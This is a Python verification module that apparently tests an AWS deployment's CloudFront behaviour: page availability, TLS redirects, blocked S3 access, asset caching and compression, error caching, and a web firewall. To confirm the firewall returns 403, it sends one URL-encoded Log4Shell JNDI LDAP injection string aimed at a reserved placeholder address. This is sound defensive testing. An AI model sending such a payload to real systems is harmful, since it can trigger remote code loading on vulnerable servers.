"""Steps `pages`, `errors` and `firewall`: what CloudFront does in front of pages and API."""

import re
import time
import tomllib
from typing import TYPE_CHECKING, Final

import httpx

from claims.pages import check_configuration, check_pages
from cli.prove.probe import function_of
from cli.prove.proof import Proof
from infra.council.load import ROOT
from shared.http.roles import COUNCIL

if TYPE_CHECKING:
    from types_boto3_lambda import LambdaClient

_ASSET: Final = re.compile(r'"(/assets/[^"]+\.js)"')
_ERROR_WITHIN_SECONDS: Final = 60
_ANSWER_TO_THE_UNKNOWN: Final = "not-found"
_ATTACK: Final = "/?q=%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fx%7D"
"""What AWS's list of known bad inputs refuses: Log4Shell, to an address that nobody has."""


def pages(proof: Proof) -> None:
    """Claim that every page is there, and safe, and that nobody reaches the bucket."""
    ledger, site = proof.ledger, proof.site_url
    if not site:
        ledger.unseen("the pages are there", "this stack does not serve them (site = false)")
        return
    check_pages(proof.http, site, ["", *_page_names()], ledger)
    expected = {"client_id": proof.stack.outputs.get("ClientId", "")}
    check_configuration(proof.http, site, expected, ledger)
    _check_assets(proof)
    plain = "a page without TLS leads to the one with it"
    if proof.only_on_aws("it has no TLS", plain):
        response = proof.http.get(site.replace("https://", "http://"))
        is_moved = response.status_code in {301, 308}
        location = response.headers.get("location", "")
        ledger.check(plain, is_moved and location.startswith("https://"), response.status_code)
    for name in sorted(proof.stack.resources("AWS::S3::Bucket").values()):
        response = proof.http.get(f"https://{name}.s3.{proof.region}.amazonaws.com/index.html")
        is_refused = response.status_code in {403, 404}
        ledger.check("nobody reads a bucket past CloudFront", is_refused, response.status_code)


def _page_names() -> list[str]:
    """Return the file names of the pages of this commit that have an address of their own."""
    table = tomllib.loads((ROOT / "web" / "pages.toml").read_text(encoding="utf-8"))
    return sorted(f"{name}.html" for name in table if name != _ANSWER_TO_THE_UNKNOWN)


def _check_assets(proof: Proof) -> None:
    ledger, site = proof.ledger, proof.site_url
    found = _ASSET.search(proof.http.get(f"{site}/").text)
    if found is None:
        ledger.check("the start page names its modules", False)
        return
    response = proof.http.get(f"{site}{found[1]}", headers={"Accept-Encoding": "br, gzip"})
    kept = response.headers.get("cache-control", "")
    ledger.check("browsers may keep a module for ever", "immutable" in kept, kept)
    claim = "modules are compressed"
    if proof.only_on_aws("its CloudFront compresses nothing", claim):
        encoding = response.headers.get("content-encoding", "none")
        ledger.check(claim, encoding in {"br", "gzip"}, encoding)


def errors(proof: Proof) -> None:
    """Claim that an error of the API is not remembered by CloudFront for everybody."""
    claims = (
        "a function that AWS refuses to start answers 503",
        "the next request after it is 200",
    )
    if not proof.site_url:
        for claim in claims:
            proof.ledger.unseen(claim, "this stack has no CloudFront (site = false)")
        return
    if not proof.can_sign_in or not proof.only_if_slow(*claims):
        return
    if not proof.only_on_aws("its CloudFront remembers nothing", *claims):
        return
    lambdas: LambdaClient = proof.stack.client("lambda")
    name = function_of(proof.stack, "CouncilOverview")
    proof.caller.request(COUNCIL, "GET", "/homes", expect=200)
    proof.cleanup.add(
        "the halt of one function", lambda: lambdas.delete_function_concurrency(FunctionName=name)
    )
    lambdas.put_function_concurrency(FunctionName=name, ReservedConcurrentExecutions=0)
    response = _until(proof, 503)
    proof.ledger.check(claims[0], response.status_code == 503, response.status_code)
    lambdas.delete_function_concurrency(FunctionName=name)
    # Lambda takes a moment to let it start again; a direct request shows when, and is remembered
    # by nobody.
    direct = proof.stack.output("ApiUrl").rstrip("/")
    headers = {"Authorization": f"Bearer {proof.caller.token(COUNCIL)}"}
    deadline = time.monotonic() + _ERROR_WITHIN_SECONDS
    while time.monotonic() < deadline:
        if proof.http.get(f"{direct}/homes", headers=headers).is_success:
            break
        time.sleep(0.2)
    response = proof.caller.send(COUNCIL, "GET", "/homes")
    proof.ledger.check(
        claims[1],
        response.status_code == 200 and "age" not in response.headers,
        f"{response.status_code}, X-Cache: {response.headers.get('x-cache', 'none')}",
    )


def _until(proof: Proof, status: int) -> httpx.Response:
    """Ask until the status comes, or time is up; return the last response."""
    deadline = time.monotonic() + _ERROR_WITHIN_SECONDS
    while True:
        response = proof.caller.send(COUNCIL, "GET", "/homes")
        if response.status_code == status or time.monotonic() > deadline:
            return response
        time.sleep(0.5)


def firewall(proof: Proof) -> None:
    """Claim that a known attack is refused before it reaches anything."""
    claim = "a known attack is refused"
    council = proof.stack.council
    if council is None or not council.waf:
        proof.ledger.unseen(claim, "the settings ask for no firewall (waf = false)")
        return
    if not proof.only_on_aws("it has no firewall", claim):
        return
    response = proof.http.get(f"{proof.site_url}{_ATTACK}")
    proof.ledger.check(claim, response.status_code == 403, response.status_code)
